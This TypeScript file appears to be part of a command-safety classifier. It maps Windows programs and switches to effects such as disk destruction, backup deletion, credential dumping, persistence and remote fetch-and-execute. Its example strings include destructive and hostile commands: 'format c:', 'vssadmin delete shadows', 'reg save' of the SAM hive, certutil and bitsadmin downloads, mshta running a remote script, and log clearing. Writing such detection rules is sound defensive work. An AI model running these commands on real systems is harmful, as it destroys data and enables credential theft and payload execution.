import type { Row } from '../command/row.js';

/** Programs of Windows, whose switches begin with a slash and so are operands here. */
export const WINDOWS: readonly Row[] = [
  { program: 'format | format.com', operands: 'text', effects: [{ kind: 'destroy', resource: 'disk', when: { operand: /^[A-Za-z]:[\\/]?$/ } }], examples: [['format c: /q', 'destroy disk:c: /q'], ['format src']] },
  { program: 'wsl', operands: 'text', effects: [{ kind: 'destroy', resource: 'disk', name: 'distribution', when: { any: ['--unregister'] } }], examples: [['wsl --unregister Ubuntu', 'destroy disk:distribution'], ['wsl --list'], ['wsl --terminate Ubuntu']] },
  {
    program: 'vssadmin | wbadmin | wmic',
    operands: 'text',
    effects: [
      { kind: 'destroy', resource: 'machine', name: 'backups', when: { operand: /^delete$/i } },
      { kind: 'execute', resource: 'hidden-command', name: 'wmic', when: { operand: /^create$/i } },
      { kind: 'signal', resource: 'machine', when: { operand: /^(?:win32)?(?:shutdown|reboot)$/i } },
    ],
    examples: [['wmic os where primary=true call reboot', 'signal machine'], ['vssadmin delete shadows /all', 'destroy machine:backups'], ['wmic os get version']],
  },
  { program: 'cipher', operands: 'text', effects: [{ kind: 'destroy', resource: 'machine', name: 'free space', when: { operand: /^\/w/i } }], examples: [['cipher /w:C', 'destroy machine:free space']] },
  {
    program: 'reg | regedit',
    operands: 'text',
    effects: [
      { kind: 'reveal-environment', resource: 'credential', name: 'accounts', when: { operand: [/^(?:save|export)$/i, /^(?:HKLM|HKEY_LOCAL_MACHINE)[\\/](?:SAM|SECURITY|SYSTEM)$/i] } },
      { kind: 'change-service', resource: 'machine', name: 'registry', when: { operand: /^(?:add|delete|import|restore|unload|\/s)$/i } },
      { kind: 'persist', resource: 'schedule', name: 'run key', when: { operand: /Run(?:Once)?$/ } },
    ],
    examples: [['reg delete HKLM/x /f', 'change-service machine:registry'], ['reg query HKLM/x'], ["reg save 'HKLM\\SAM' sam.hiv", 'reveal-environment credential:accounts'], ['reg export HKCU/Software/X x.reg']],
  },
  { program: 'sc | sc.exe', operands: 'text', effects: [{ kind: 'change-service', resource: 'service', when: { operand: /^(?:delete|stop|create|config)$/i } }], examples: [['sc stop x', 'change-service service:stop x'], ['sc query x']] },
  {
    program: 'net | net1',
    operands: 'text',
    effects: [
      { kind: 'change-permission', resource: 'account', when: { operand: /^\/(?:add|delete|del)$/i } },
      { kind: 'change-service', resource: 'service', when: { operand: /^stop$/i } },
    ],
    examples: [['net user x /add', 'change-permission account'], ['net stop x', 'change-service service'], ['net user']],
  },
  { program: 'taskkill', operands: 'text', effects: [{ kind: 'signal', resource: 'process', name: 'all', when: { operand: /^\/{1,2}(?:im|fi)$/i } }], examples: [['taskkill /f /im node.exe', 'signal process'], ['taskkill //F //IM node.exe', 'signal process'], ['taskkill /pid 12 /f']] },
  { program: 'findstr', operands: { skip: 1, each: 'read' }, prints: [{ amount: 'matches' }], examples: [['findstr x a', 'read /home/u/proj/a'], ['findstr /s x a', 'read /home/u/proj/a'], ['findstr .env']] },
  { program: 'wevtutil', operands: 'text', effects: [{ kind: 'discard', resource: 'machine', name: 'log', when: { operand: /^(?:cl|clear-log)$/i } }], examples: [['wevtutil cl System', 'discard machine:log']] },
  { program: 'certutil', operands: 'use', dashed: true, variants: [{ when: { any: ['-urlcache'] }, operands: { each: 'url', last: 'write' } }], examples: [['certutil -urlcache -f https://x.test/a a.exe', 'fetch host', 'write /home/u/proj/a.exe']] },
  { program: 'bitsadmin', operands: { each: 'text', last: 'write' }, effects: [{ kind: 'fetch', resource: 'host' }], examples: [['bitsadmin /transfer j https://x.test/a a.exe', 'write /home/u/proj/a.exe']] },
  {
    program: 'setx',
    operands: 'text',
    effects: [{ kind: 'persist', resource: 'schedule', name: 'environment', when: { line: /^(?:path|pathext|node_options|node_path|pythonpath|pythonstartup|psmodulepath|comspec)(?: |$)/i } }],
    examples: [["setx PATH 'C:/x;%PATH%'", 'persist schedule:environment'], ['setx JAVA_HOME C:/java']],
  },
  { program: 'mshta | regsvr32 | rundll32 | msiexec | cscript | wscript | installutil', operands: 'use', effects: [{ kind: 'execute', resource: 'host', when: { operand: /https?:|^javascript:|^vbscript:/i } }], examples: [['mshta https://x.test/a.hta', 'execute host']] },
];
